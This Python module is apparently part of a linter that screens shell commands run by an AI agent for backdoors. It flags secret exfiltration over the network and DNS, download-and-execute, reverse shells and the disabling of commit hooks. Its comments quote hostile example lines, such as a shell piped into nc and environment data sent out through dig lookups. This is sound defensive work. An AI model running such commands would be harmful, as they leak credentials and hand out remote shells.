"""Static analysis of shell commands (bash/sh) for the agent hook, shell scripts and shell text
embedded in other files.

The command is parsed by tree-sitter-bash (a real grammar: lists, pipelines, redirections, heredocs,
command and process substitution, ANSI-C strings), never matched with regular expressions. The
analysis walks the tree like a very small abstract interpreter:

- words are resolved to text (quoted fragments joined: ``c""url`` -> ``curl``; ``$'\\x63url'``
  decoded; simple variables assigned earlier in the same command substituted; ``$(...)`` of a
  literal decoder pipeline such as ``echo Y3VybA== | base64 -d`` evaluated) -- words.py;
- every value carries *taint tags*: ``env`` (the whole environment), ``cred`` (a credential file),
  ``secret`` (a secret-named variable), ``download`` (bytes fetched from the network) and
  ``decoded`` (a payload that was base64/hex/rot13/escape-decoded), which flow through pipes,
  substitutions, ``xargs`` and variables -- values.py, decoding.py;
- wrappers (``env``, ``sudo``, ``nohup``, ``timeout``, ``time``, ``nice``, ``command``, ``exec``,
  ``xargs``, ``find -exec``, ...) and ``VAR=value`` prefixes are stripped (wrappers.py); ``bash -c``,
  ``sh -c``, ``eval``, ``watch``, ``su -c`` and decoded payloads piped into a shell are analysed
  recursively;
- network programs are read with per-program option tables (network.py); commands that switch the
  guard off are in tampering.py;
- ``python -c``/``node -e``/``perl -e``/``ruby -e`` bodies are returned as inline code (and get a
  quick libcst-free screen, inline.py), files written by ``cat > f <<EOF``, ``tee f``,
  ``printf ... > f`` are returned as writes so callers can run the file checkers on them;
- staging (staging.py): a file written with secrets, or copied/archived from a credential file,
  holds them, and uploading it later counts as uploading them; files known from earlier calls of
  the agent session come in as ``known`` and the new ones go out in ``ShellAnalysis.staged``;
- scripts and Makefiles the command wrote and then runs (``bash f``, ``make -f f``) are analysed
  as what they are; ``git remote add``/``git push`` of a dump (scripts.py); ``docker run`` with
  credential mounts (containers.py); ``${X:-curl}`` defaults, arrays, ``IFS`` splitting and
  ``>(cmd)`` targets (words.py); loops and ``read`` carry the taint of what they iterate over.

Findings: BDL402 (environment, credential files or secrets to the network, credential files
published or mounted into a networked container), BDL404 (secrets or command output in DNS
names), BDL405 (download and execute, reverse shells, encoded payloads executed), BDL803 (guard
configuration deleted or edited blindly) and BDL804 (commit hooks bypassed).

Entry point: :func:`analyse` -> :class:`ShellAnalysis`. Pure: no file system access, no engine.
"""
from __future__ import annotations

import re
from dataclasses import dataclass, field

from backdoor_lint.checkers.shell.containers import ContainerRunner
from backdoor_lint.checkers.shell.decoding import decode_stream, echo_stream, text_of
from backdoor_lint.checkers.shell.scripts import ScriptRunner
from backdoor_lint.checkers.shell.staging import StagedFiles, copy_destination, normalise
from backdoor_lint.checkers.shell.tampering import check_bypass_env, check_file_tampering, check_git
from backdoor_lint.checkers.shell.values import (
    EMPTY,
    HANDLED,
    MAX_COMMAND,
    MAX_DEPTH,
    UNKNOWN,
    FileWrite,
    InlineCode,
    Known,
    NetworkUse,
    ShellAnalysis,
    Stream,
    Word,
    joined,
)
from backdoor_lint.checkers.shell.wordlists import (
    CONTAINER_RUNNERS,
    DNS_TOOLS,
    ENV_DUMPERS,
    FILE_TAMPERERS,
    HARMLESS_PATH_READERS,
    INLINE_FLAGS,
    INTERPRETERS,
    NETWORK,
    PUBLISHERS,
    RAW_SOCKET_CLIENTS,
    SHELLS,
    STDIN_FILTERS,
    basename,
    is_git_hook_path,
    is_secret_name,
)
from backdoor_lint.checkers.shell.words import WordResolver, parse
from backdoor_lint.checkers.shell.wrappers import WrapperUnwrapper

MAX_SPLITS = 64
# a name with a label computed by a command: `$(whoami).x.example`, `$(id | base64).$(hostname).x.example`
# (the text of a non-exact word keeps `$(...)` as written: a closing `)` or backquote followed by
# `.label` is a name part computed by a command; each `)` starts a run the pattern reads once)
_COMPUTED_LABEL = re.compile(r"[)`][\w-]*\.[\w-]*[A-Za-z]")
MAKEFILES = ("GNUmakefile", "makefile", "Makefile")  # commands the grammar runs past a newline, split off per analysed text


def _misparsed_newline(root, source: bytes) -> int | None:
    """Byte offset of an unescaped newline inside a simple command, or None. Bash ends a command at
    such a newline; tree-sitter-bash sometimes runs a command on over it (a pipeline, a comment
    line and a `2>/dev/null` after it), which would hide the statements that follow."""
    found = None
    stack = [root]
    while stack:
        node = stack.pop()
        if found is not None and node.start_byte >= found:
            continue
        if node.type == "command":
            children = node.children
            for before, after in zip(children, children[1:]):
                gap = source[before.end_byte:after.start_byte]
                index = gap.find(b"\n")
                while index >= 0 and gap[:index].endswith(b"\\"):
                    index = gap.find(b"\n", index + 1)
                if index >= 0:
                    found = min(found if found is not None else len(source), before.end_byte + index)
                    break
        stack.extend(node.children)
    return found


@dataclass
class _Shared:
    """State of one analysed command line that nested shells share with it."""

    staged: StagedFiles
    cwd: str | None = None
    downloaded: set[str] = field(default_factory=set)  # files the command downloads
    remotes: dict[str, str] = field(default_factory=dict)  # git remotes added (this line and the session)
    written: dict[str, str] = field(default_factory=dict)  # normalised path -> content the command writes
    pending: dict[str, object] = field(default_factory=dict)  # `>(cmd)` placeholder -> its node


class _Analyser(WordResolver, WrapperUnwrapper, ContainerRunner, ScriptRunner):
    def __init__(self, result: ShellAnalysis, depth: int = 0, variables: dict | None = None,
                 shared: _Shared | None = None, arrays: dict | None = None) -> None:
        self.result = result
        self.depth = depth
        self.vars: dict[str, Word] = variables if variables is not None else {}
        self.arrays: dict[str, list[Word]] = arrays if arrays is not None else {}
        self.shared = shared or _Shared(StagedFiles())
        self.downloaded = self.shared.downloaded
        self.staged = self.shared.staged
        self.source = b""
        self.line_offset = 0  # lines of the analysed text before the part being parsed

    # entry -----------------------------------------------------------------------------------
    def run(self, command: str) -> Stream:
        if self.depth > MAX_DEPTH:
            self.result.add("BDL405", "command nests shells, eval or encoded payloads more than "
                            f"{MAX_DEPTH} levels deep; it cannot be screened", command[:200])
            return UNKNOWN
        source = command[:MAX_COMMAND].encode("utf-8", "surrogatepass")
        out = EMPTY
        for _ in range(MAX_SPLITS):
            tree = parse(source.decode("utf-8", "surrogatepass"))
            self.source = tree.root_node.text or b""
            if tree.root_node.has_error:
                self.result.parse_errors = True
            split = _misparsed_newline(tree.root_node, self.source)
            if split is None:
                return self.exec_node(tree.root_node, EMPTY)
            # the grammar ran one command on past the end of its line: what comes before the newline
            # and what follows are analysed as the separate statements bash sees
            out = self.run_part(source[:split])
            self.line_offset += source.count(b"\n", 0, split)
            source = source[split:]
        return out

    def run_part(self, source: bytes) -> Stream:
        tree = parse(source.decode("utf-8", "surrogatepass"))
        self.source = tree.root_node.text or b""
        if tree.root_node.has_error:
            self.result.parse_errors = True
        return self.exec_node(tree.root_node, EMPTY)

    def child(self) -> _Analyser:
        return _Analyser(self.result, self.depth + 1, dict(self.vars), self.shared, dict(self.arrays))

    def recurse(self, code: str) -> Stream:
        return self.child().run(code)

    def snippet(self, node) -> str:
        text = node.text.decode("utf-8", "replace") if node is not None else ""
        return text if len(text) <= 300 else text[:297] + "..."

    # statements ------------------------------------------------------------------------------
    def exec_node(self, node, stdin: Stream) -> Stream:
        kind = node.type
        if self.depth == 0 and kind not in ("program", "heredoc_body"):
            self.result.line = node.start_point[0] + 1 + self.line_offset
        if kind in ("comment", "heredoc_body", "heredoc_start", "heredoc_end"):
            return EMPTY
        if kind == "command":
            return self.exec_command(node, stdin, [])
        if kind == "pipeline":
            stream = stdin
            for part in node.named_children:
                if part.type == "comment":
                    continue
                stream = self.exec_node(part, stream)
            self.check_socket_pipeline(node)
            return stream
        if kind == "redirected_statement":
            return self.exec_redirected(node, stdin)
        if kind == "variable_assignment":
            self.assign(node)
            return EMPTY
        if kind == "variable_assignments":
            for part in node.named_children:
                self.assign(part)
            return EMPTY
        if kind == "declaration_command":
            return self.exec_declaration(node)
        if kind == "for_statement":
            return self.exec_for(node, stdin)
        if kind in ("command_substitution", "process_substitution"):
            return self.exec_block(node, stdin)
        # program, list, compound_statement, subshell, if/while/for/case, function_definition,
        # negated_command, ERROR ...: analyse every statement they contain.
        return self.exec_block(node, stdin)

    def exec_block(self, node, stdin: Stream) -> Stream:
        out = EMPTY
        for part in node.named_children:
            if part.type in ("word", "string", "raw_string", "number", "concatenation", "simple_expansion",
                             "expansion", "variable_name"):
                # loop lists, case values, test operands: resolve for the side effects of $( )
                self.resolve(part)
                continue
            out = self.exec_node(part, stdin)
        return out

    def exec_for(self, node, stdin: Stream) -> Stream:
        """`for x in a b; do ...; done`: the body once per known value (up to 8), else once with a
        value carrying the taint of the whole list (`for l in $(env | base64)`)."""
        variable = node.child_by_field_name("variable")
        values = [w for v in node.children_by_field_name("value") for w in self.resolve_args(v)]
        body = node.child_by_field_name("body")
        if variable is None or body is None:
            return self.exec_block(node, stdin)
        name = variable.text.decode("utf-8", "replace")
        if values and len(values) <= 8 and all(v.exact for v in values):
            out = EMPTY
            for value in values:
                self.vars[name] = value
                out = self.exec_block(body, stdin)
            return out
        tags = frozenset().union(*[v.tags for v in values]) if values else frozenset()
        self.vars[name] = Word(f"${name}", tags, False, next((v.what for v in values if v.what), ""))
        return self.exec_block(body, stdin)

    def check_socket_pipeline(self, node) -> None:
        """`cat f | sh -i | nc host port > f`: a shell wired into a network connection."""
        names = []

        def commands(pipeline):
            for part in pipeline.named_children:
                cmd = part
                while cmd is not None and cmd.type == "redirected_statement":
                    cmd = cmd.child_by_field_name("body") or (cmd.named_children[0] if cmd.named_children else None)
                if cmd is not None and cmd.type == "pipeline":
                    yield from commands(cmd)
                elif cmd is not None and cmd.type == "command":
                    yield cmd

        for cmd in commands(node):
            words = [c for c in cmd.named_children if c.type not in ("variable_assignment", "file_redirect",
                                                                     "heredoc_redirect", "herestring_redirect")]
            argv = [self.resolve(w.named_children[0] if w.type == "command_name" and w.named_children else w)
                    for w in words[:8]]
            argv = self.unwrap(argv, EMPTY, cmd) if argv else argv
            if argv:
                names.append((basename(argv[0].text), [a.text for a in argv[1:]]))
        shell = any(n in SHELLS and not any("c" in a[1:] for a in args if a.startswith("-") and not
                                            a.startswith("--")) for n, args in names)
        net = next((n for n, args in names if n in RAW_SOCKET_CLIENTS or
                    n == "openssl" and "s_client" in args), None)
        if shell and net:
            self.result.add("BDL405", f"connects a shell to a network connection through a pipe ({net}): a reverse "
                            "shell gives whoever listens on the other end a shell on this machine", self.snippet(node))

    def assign(self, node) -> Word | None:
        name_node = node.child_by_field_name("name") or (node.named_children[0] if node.named_children else None)
        value_node = node.child_by_field_name("value")
        if name_node is None:
            return None
        name = name_node.text.decode("utf-8", "replace")
        if value_node is not None and value_node.type == "array":  # cmd=(curl -d @f url)
            self.arrays[name] = [w for part in value_node.named_children for w in self.resolve_args(part)]
            value = self.arrays[name][0] if self.arrays[name] else Word("")
        else:
            value = self.resolve(value_node) if value_node is not None else Word("")
        self.vars[name] = value
        return value

    def exec_declaration(self, node) -> Stream:
        keyword = node.children[0].text.decode() if node.children else ""
        args = []
        for part in node.named_children:
            if part.type == "variable_assignment":
                name_node = part.child_by_field_name("name")
                name = name_node.text.decode("utf-8", "replace") if name_node else ""
                value = self.assign(part)
                if keyword == "export":
                    check_bypass_env(self.result, name, value, self.snippet(node), exported=True)
            else:
                args.append(self.resolve(part).text)
        if keyword in ("export", "declare", "typeset") and (not node.named_children or
                                                            any(a in ("-p", "-x", "-px", "-xp") for a in args)):
            return Stream(None, frozenset({"env"}), keyword + " " + " ".join(args))
        return EMPTY

    def record_socket(self, target: str) -> None:
        """`>& /dev/tcp/host/port`: bash itself connects to host."""
        path = target[target.find("/dev/"):].split("/")
        self.result.network.append(NetworkUse("/dev/" + path[2], tuple(path[3:4])))

    def exec_redirected(self, node, stdin: Stream) -> Stream:
        body = node.child_by_field_name("body") or (node.named_children[0] if node.named_children else None)
        redirects = [c for c in node.named_children if c is not body]
        return self._with_redirects(body, redirects, stdin)

    def _collect_redirects(self, redirects):
        """(stdin stream or None, [(fd, op, target Word)], [heredoc bodies]) of a list of redirect nodes."""
        new_stdin = None
        outputs = []
        for red in redirects:
            if red.type == "heredoc_redirect":
                body = next((c for c in red.children if c.type == "heredoc_body"), None)
                start = next((c for c in red.children if c.type == "heredoc_start"), None)
                quoted = start is not None and start.text[:1] in (b"'", b'"', b"\\")
                if body is not None:
                    text = body.text.decode("utf-8", "replace")
                    tags, what = frozenset(), ""
                    if not quoted:
                        for sub in body.named_children:  # expansions inside an unquoted heredoc
                            if sub.type in ("command_substitution", "simple_expansion", "expansion"):
                                w = self.resolve(sub)
                                tags |= w.tags
                                what = what or w.what
                    new_stdin = Stream(text.encode("utf-8", "surrogatepass"), tags, what)
                else:
                    new_stdin = UNKNOWN
                nested = [c for c in red.named_children if c.type == "file_redirect"]
                _, n_out = self._collect_redirects(nested)
                outputs += n_out
            elif red.type == "herestring_redirect":
                target = red.named_children[-1] if red.named_children else None
                w = self.resolve(target) if target is not None else Word("")
                new_stdin = Stream((w.text + "\n").encode("utf-8", "surrogatepass") if w.exact else None, w.tags,
                                   w.what)
            elif red.type == "file_redirect":
                fd = None
                op = ""
                target = None
                for c in red.children:
                    if c.type == "file_descriptor":
                        fd = c.text.decode()
                    elif not c.is_named:
                        op = c.text.decode()
                    elif target is None:
                        target = c
                dest = red.child_by_field_name("destination") or target
                word = self.resolve(dest) if dest is not None else Word("")
                outputs.append((fd, op, word, red))
        return new_stdin, outputs

    def _with_redirects(self, body, redirects, stdin: Stream) -> Stream:
        new_stdin, outputs = self._collect_redirects(redirects)
        for fd, op, word, red in outputs:
            target = word.text
            if "/dev/tcp/" in target or "/dev/udp/" in target:
                self.record_socket(target)
                self.result.add("BDL405", f"raw network socket `{target}` used as a redirection: this is how "
                                "reverse shells connect a shell's input and output to a remote listener",
                                self.snippet(red.parent))
            if op in ("<", "<>") and fd in (None, "0"):
                tags = self.staged.tags(target)
                new_stdin = Stream(None, tags | word.tags, (self.staged.held(target) or target) if tags else "")
        if body is None:
            return EMPTY
        out = self.exec_node(body, new_stdin if new_stdin is not None else stdin)
        writes = [(fd, op, w) for fd, op, w, _ in outputs if op in (">", ">>", ">|", "&>", "&>>")
                  and fd in (None, "1") and not w.text.startswith("/dev/")]
        for _fd, op, w in writes:
            self.record_write(w, out, append=op.endswith(">>"), via=self.snippet(body.parent))
        if writes:
            return EMPTY
        return out

    # simple commands -------------------------------------------------------------------------
    def exec_command(self, node, stdin: Stream, extra_redirects) -> Stream:
        assigns: list[tuple[str, Word]] = []
        argv: list[Word] = []
        redirects = list(extra_redirects)
        for part in node.named_children:
            if part.type == "variable_assignment":
                name_node = part.child_by_field_name("name")
                value_node = part.child_by_field_name("value")
                name = name_node.text.decode("utf-8", "replace") if name_node else ""
                assigns.append((name, self.resolve(value_node) if value_node is not None else Word("")))
            elif part.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                redirects.append(part)
            elif part.type == "command_name":  # `$c` with a changed IFS, `"${cmd[@]}"`: several words
                argv.extend(self.resolve_args(part.named_children[0]) if part.named_children else [self.resolve(part)])
            elif part.type == "comment":
                continue
            else:
                argv.extend(self.resolve_args(part))
        if redirects:
            new_stdin, outputs = self._collect_redirects(redirects)
            if new_stdin is not None:
                stdin = new_stdin
            for _fd, op, word, _red in outputs:
                if "/dev/tcp/" in word.text or "/dev/udp/" in word.text:
                    self.record_socket(word.text)
                    self.result.add("BDL405", f"raw network socket `{word.text}` used as a redirection: this is "
                                    "how reverse shells connect a shell to a remote listener", self.snippet(node))
                if op == "<" and self.staged.tags(word.text):
                    stdin = Stream(None, self.staged.tags(word.text), self.staged.held(word.text) or word.text)
        if not argv:
            for name, value in assigns:
                self.vars[name] = value
                check_bypass_env(self.result, name, value, self.snippet(node), exported=False)
            return EMPTY
        env = dict(assigns)
        for name, value in assigns:
            check_bypass_env(self.result, name, value, self.snippet(node), exported=False, command=argv)
        return self.run_argv(argv, stdin, node, env)


    # the dispatcher ------------------------------------------------------------------------
    def run_argv(self, argv: list[Word], stdin: Stream, node, env: dict | None = None) -> Stream:
        argv = self.unwrap(argv, stdin, node)
        if not argv:
            return EMPTY
        if not argv[0].exact:  # `c${UNSET}url`: an unset variable expands to nothing
            collapsed = re.sub(r"\$\{?[A-Za-z_][A-Za-z0-9_]*\}?", "", argv[0].text)
            if basename(collapsed) in NETWORK | SHELLS | set(INTERPRETERS) | {"eval", "git", "source"}:
                argv = [Word(collapsed, argv[0].tags, True, argv[0].what)] + argv[1:]
        if argv[0].text == HANDLED:
            return UNKNOWN
        program = argv[0].text
        if "download" in argv[0].tags or program in self.downloaded or \
                basename(program) in self.downloaded and program.startswith(("./", "/")):
            self.result.add("BDL405", f"runs `{program}`, which this command downloaded: download-and-"
                            "execute runs whatever the server sends, unreviewed", self.snippet(node))
        name = basename(program)
        args = argv[1:]
        if name in SHELLS or name in ("source", "."):
            return self.run_shell(name, argv, stdin, node)
        if name == "eval":
            return self.run_code_word("eval", joined(args), node)
        language = INTERPRETERS.get(name) or (INTERPRETERS.get(re.sub(r"[\d.]+$", "", name)) if
                                             re.match(r"python[\d.]+$", name) else None)
        if language:
            return self.run_interpreter(name, language, argv, stdin, node)
        if name in NETWORK or name in PUBLISHERS:
            # imported here: most commands run no network program (issue 17: every agent Bash call)
            from backdoor_lint.checkers.shell.network import run_network, run_publisher

            if name in NETWORK:
                return run_network(self.result, self.downloaded, name, args, stdin, self.snippet(node),
                                   self.staged.held)
            return run_publisher(self.result, name, args, self.snippet(node), self.staged.held)
        if name in CONTAINER_RUNNERS:
            return self.run_container(name, args, node)
        if name in DNS_TOOLS:
            return self.run_dns_tool(name, args, node)
        if name == "crontab" and (not args or args[-1].text == "-") and stdin.data is not None:
            return self.run_crontab(stdin)
        return self.run_tool(name, args, stdin, node)

    def run_dns_tool(self, name: str, args: list[Word], node) -> Stream:
        tainted = [a for a in args if a.tags & {"env", "cred", "secret"}]
        if tainted:
            self.result.add("BDL404", f"puts secret data ({tainted[0].what or tainted[0].text}) into a name "
                            f"resolved with {name}: DNS exfiltration leaves through every firewall that allows "
                            "DNS", self.snippet(node))
        computed = next((a for a in args if not a.exact and ("$(" in a.text or "`" in a.text) and
                         _COMPUTED_LABEL.search(a.text)), None)
        if computed is not None and not tainted:
            self.result.add("BDL404", f"puts the output of a command into a name resolved with {name} "
                            f"(`{computed.text[:80]}`): each lookup carries that data to the name server of the "
                            "domain, through every firewall that allows DNS", self.snippet(node))
        return UNKNOWN

    def run_crontab(self, stdin: Stream) -> Stream:
        """`... | crontab -`: each entry's command is analysed."""
        for line in (text_of(stdin.data) or "").splitlines():
            fields = line.split(None, 5)
            if len(fields) == 6 and not line.lstrip().startswith("#"):
                self.recurse(fields[5])
            elif line.startswith("@") and len(line.split(None, 1)) == 2:
                self.recurse(line.split(None, 1)[1])
        return UNKNOWN

    def run_tool(self, name: str, args: list[Word], stdin: Stream, node) -> Stream:
        """Everything but shells, interpreters and network programs."""
        texts = [a.text for a in args]
        snippet = self.snippet(node)
        if any("/inet/tcp/" in t or "/inet/udp/" in t for t in texts):
            self.result.add("BDL405", f"`{name}` opens a raw network connection (/inet/tcp): the gawk form of a "
                            "reverse shell", snippet)
        if name == "git":
            check_git(self.result, args, snippet)
            self.run_git_remote(args, snippet)
            return UNKNOWN
        if name in ("read", "mapfile", "readarray"):  # `env | while read l; do dig $l.x.example; done`
            for a in args:
                if re.fullmatch(r"[A-Za-z_]\w*", a.text):
                    self.vars[a.text] = Word(f"${a.text}", stdin.tags, False, stdin.what)
            return EMPTY
        if name in ("make", "gmake"):
            return self.run_make(args, node)
        copied = copy_destination(name, args)
        if copied:
            self.staged.copy(copied[0], copied[1], snippet)
        if name in ("pre-commit", "prek") and texts[:1] == ["uninstall"]:
            self.result.add("BDL804", "`pre-commit uninstall` removes the git hook that runs backdoor-lint, so "
                            "later commits are not screened", snippet)
        if name in ENV_DUMPERS:
            return self.run_env_dumper(name, texts)
        if name in ("echo", "printf"):
            return echo_stream(name, args)
        decoded = decode_stream(name, args, stdin)
        if decoded is not None:
            return decoded
        if name in ("cat", "tee"):
            return self.run_cat_tee(name, args, stdin, snippet)
        if name in FILE_TAMPERERS:
            check_file_tampering(self.result, name, args, snippet, self.downloaded)
        if name == "find":
            return self.run_find(args, stdin, node)
        if name in ("watch",):
            cmd = [a for a in args if not a.text.startswith("-")]
            if cmd:
                return self.run_code_word("watch", Word(" ".join(a.text for a in cmd)), node)
        return self.reads_credentials(name, args, stdin)

    @staticmethod
    def run_env_dumper(name: str, texts: list[str]) -> Stream:
        """env, printenv, set, export -p ...: the whole environment (or named secrets) on stdout."""
        if name == "env" or name == "printenv" and not texts or name == "set" and not texts or \
                name == "compgen" and "-v" in texts or name in ("export", "declare", "typeset") and \
                (not texts or any(t in ("-p", "-x", "-px", "-xp") for t in texts)):
            return Stream(None, frozenset({"env"}), f"`{' '.join([name] + texts)}`")
        if name == "printenv" and any(is_secret_name(t) for t in texts):
            return Stream(None, frozenset({"secret"}), f"`printenv {' '.join(texts)}`")
        return UNKNOWN

    def run_cat_tee(self, name: str, args: list[Word], stdin: Stream, snippet: str) -> Stream:
        texts = [a.text for a in args]
        files = [a for a in args if not a.text.startswith("-") or a.text == "-"]
        if name == "tee":
            for f in files:
                if f.text != "-":
                    self.record_write(f, stdin, append="-a" in texts or "--append" in texts, via=snippet)
            return stdin
        if not files:
            return stdin
        tags, what = frozenset(), []
        for f in files:
            if self.staged.tags(f.text):
                tags |= self.staged.tags(f.text)
                what.append(self.staged.held(f.text) or f.text)
            tags |= f.tags
        return Stream(None, tags, ", ".join(what))

    def reads_credentials(self, name: str, args: list[Word], stdin: Stream) -> Stream:
        """Any other command: its output carries the taint of the credential files it reads."""
        if name in HARMLESS_PATH_READERS:
            return Stream(None, frozenset(), "")
        tags = frozenset()
        found = []
        for a in args:
            if self.staged.tags(a.text):
                tags |= self.staged.tags(a.text)
                found.append(self.staged.held(a.text) or a.text)
        what = ", ".join(found)
        tags |= frozenset(t for a in args for t in a.tags if t in ("env", "cred", "secret"))
        what = what or next((a.what for a in args if a.tags), "")
        if name in STDIN_FILTERS and stdin.tags:
            tags |= stdin.tags
            what = what or stdin.what
        return Stream(None, tags, what)

    # shells and interpreters --------------------------------------------------------------------
    def run_shell(self, name: str, argv: list[Word], stdin: Stream, node) -> Stream:
        snippet = self.snippet(node)
        args = argv[1:]
        if name == "busybox":
            args = args[1:]
        if name in ("source", "."):
            target = args[0] if args else Word("")
            if "download" in target.tags or target.text in self.downloaded:
                self.result.add("BDL405", f"sources code downloaded from the network ({target.what or target.text}) "
                                "into the current shell: it runs whatever the server sends, unreviewed", snippet)
                return UNKNOWN
            return self.run_script_file("shell", target.text)
        code = None
        script = None
        positional: list[Word] = []
        i = 0
        while i < len(args):
            t = args[i].text
            if t in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
                i += 2
                continue
            if t.startswith("-") and len(t) > 1 and not t.startswith("--") and "c" in t[1:]:
                if i + 1 < len(args):
                    code = args[i + 1]
                    positional = args[i + 2:]
                break
            if t == "-" or t == "-s":
                break
            if t.startswith(("-", "+")) and len(t) > 1:
                i += 1
                continue
            script = args[i]
            break
        if code is not None:
            return self.run_code_word(f"{name} -c", code, node, positional=positional)
        if script is not None:
            if "download" in script.tags or script.text in self.downloaded or basename(script.text) in self.downloaded:
                self.result.add("BDL405", f"runs a script downloaded from the network ({script.what or script.text}) "
                                f"with {name}: download-and-execute runs whatever the server sends, unreviewed",
                                snippet)
            elif "/dev/stdin" not in script.text:
                return self.run_script_file("shell", script.text)
        return self.execute_stream(name, "bash", stdin, node)

    def run_interpreter(self, name: str, language: str, argv: list[Word], stdin: Stream, node) -> Stream:
        args = argv[1:]
        flags = INLINE_FLAGS.get(language, set())
        i = 0
        while i < len(args):
            t = args[i].text
            if t in flags or (language in ("python", "perl", "ruby") and t.startswith("-") and not t.startswith("--")
                              and t[-1:] in {f[-1] for f in flags} and len(t) > 2 and t[1:-1].isalpha()):
                if i + 1 < len(args):
                    return self.run_code_word(f"{name} {t}", args[i + 1], node, language)
                return UNKNOWN
            if language == "python" and t == "-m":
                return UNKNOWN
            if t == "-":
                break
            if t.startswith("-") and len(t) > 1:
                i += 1
                continue
            if "download" in args[i].tags or args[i].text in self.downloaded:
                self.result.add("BDL405", f"runs a script downloaded from the network ({args[i].what or args[i].text})"
                                f" with {name}: download-and-execute runs whatever the server sends, unreviewed",
                                self.snippet(node))
            return UNKNOWN
        return self.execute_stream(name, language, stdin, node)

    def execute_stream(self, name: str, language: str, stdin: Stream, node) -> Stream:
        """`... | sh`: the interpreter runs its standard input."""
        snippet = self.snippet(node)
        if "download" in stdin.tags:
            self.result.add("BDL405", f"pipes data fetched from the network ({stdin.what or 'a download'}) into "
                            f"`{name}`: download-and-execute runs whatever the server sends today, unreviewed",
                            snippet)
        if "decoded" in stdin.tags:
            shown = text_of(stdin.data)
            shown = f": `{shown.strip()[:160]}`" if shown else ""
            self.result.add("BDL405", f"decodes an encoded payload ({stdin.what or 'base64'}) and pipes it into "
                            f"`{name}`{shown}; hiding the command from the reader is how backdoors are "
                            "smuggled past review", snippet)
        text = text_of(stdin.data)
        if text:
            if language == "bash":
                return self.recurse(text)
            self.add_inline(language, text, name)
        return UNKNOWN

    def run_code_word(self, via: str, code: Word, node, language: str = "bash",
                      positional: list[Word] | None = None) -> Stream:
        snippet = self.snippet(node)
        if "download" in code.tags:
            self.result.add("BDL405", f"`{via}` runs code fetched from the network ({code.what or 'a download'}): "
                            "download-and-execute runs whatever the server sends, unreviewed", snippet)
        if "decoded" in code.tags:
            self.result.add("BDL405", f"`{via}` runs a decoded payload (`{code.text.strip()[:160]}`); hiding the "
                            "command from the reader is how backdoors are smuggled past review", snippet)
        if not code.exact and code.tags & {"download", "decoded"}:
            return UNKNOWN  # already reported; the text is a placeholder, not the code
        if language == "bash":
            if positional:  # sh -c 'code' $0 $1 ...: the arguments become positional parameters
                sub = self.child()
                for index, value in enumerate(positional[:10]):
                    sub.vars[str(index)] = value
                rest = positional[1:]
                if rest:
                    sub.vars["@"] = sub.vars["*"] = joined(rest)
                return sub.run(code.text)
            return self.recurse(code.text)
        self.add_inline(language, code.text, via)
        return UNKNOWN

    def add_inline(self, language: str, code: str, via: str) -> None:
        from backdoor_lint.checkers.shell.inline import screen_inline  # its patterns only for inline code

        self.result.inline.append(InlineCode(language, code, via))
        for finding in screen_inline(language, code, via):
            self.result.add(*finding)

    # find -exec -------------------------------------------------------------------------------
    def run_find(self, args: list[Word], stdin: Stream, node) -> Stream:
        i = 0
        while i < len(args):
            if args[i].text in ("-exec", "-execdir", "-ok", "-okdir"):
                j = i + 1
                while j < len(args) and args[j].text not in (";", "+", "\\;"):
                    j += 1
                sub = args[i + 1:j]
                if sub:
                    self.run_argv(sub, EMPTY, node)
                i = j
            elif args[i].text == "-delete" and any(is_git_hook_path(a.text) for a in args):
                self.result.add("BDL804", "deletes files under .git/hooks, removing the commit hooks that screen "
                                "changes", self.snippet(node))
            i += 1
        return UNKNOWN

    # writes -----------------------------------------------------------------------------------
    def record_write(self, target: Word, content: Stream, append: bool, via: str) -> None:
        path = target.text
        if path in self.shared.pending:  # `... > >(curl -T - url)`: the command reads what is written
            self.exec_block(self.shared.pending.pop(path), content)
            return
        if not path or path in ("-",) or path.startswith(("/dev/", "&")):
            return
        text = text_of(content.data)
        secret = content.tags & {"env", "cred", "secret"}
        if secret:
            self.staged.add(path, content.what, "env" if "env" in secret else "cred" if "cred" in secret else "secret")
        if basename(path) in ("authorized_keys", "authorized_keys2"):
            self.result.add("BDL405", f"writes to {path}: every key listed there logs in to this account over SSH "
                            "without a password, a backdoor that survives a password change. Add keys by hand, "
                            "after checking whose they are", via)
        key = normalise(path, self.shared.cwd)
        before = (self.shared.written.get(key) or "") if append else ""
        self.shared.written[key] = before + text if text is not None else None
        self.result.writes.append(FileWrite(path, text, append, via))


def analyse(command: str, known: Known | None = None, cwd: str | None = None) -> ShellAnalysis:
    """Analyse one shell command line (or a whole script). `known`: what earlier tool calls of the
    same agent session left behind; `cwd`: the directory the command runs in, for file names."""
    result = ShellAnalysis()
    staged = StagedFiles(cwd, known.staged if known else None)
    shared = _Shared(staged, cwd, remotes=dict(known.remotes) if known else {})
    analyser = _Analyser(result, shared=shared)
    analyser.run(command)
    for placeholder in list(shared.pending):  # `>(cmd)` never written to: cmd still runs
        analyser.exec_block(shared.pending.pop(placeholder), UNKNOWN)
    result.staged = dict(staged.added)
    return result


def analyse_script(text: str, known: Known | None = None, cwd: str | None = None) -> ShellAnalysis:
    """Analyse a shell script file's content (a shebang line is a comment). A construct the grammar
    cannot parse can make tree-sitter's error recovery swallow the statements around it, so a
    script with parse errors also has each paragraph (lines between blank lines) analysed alone."""
    result = analyse(text, known, cwd)
    if result.parse_errors:
        _add_paragraph_findings(text, result)
    return result


def _add_paragraph_findings(text: str, result: ShellAnalysis) -> None:
    seen = {(f.code, f.line) for f in result.findings}
    lines = text.split("\n")
    start = 0
    for index in range(len(lines) + 1):
        if index < len(lines) and lines[index].strip():
            continue
        if index > start:
            for finding in analyse("\n".join(lines[start:index])).findings:
                finding.line += start
                if (finding.code, finding.line) not in seen:
                    seen.add((finding.code, finding.line))
                    result.findings.append(finding)
        start = index + 1
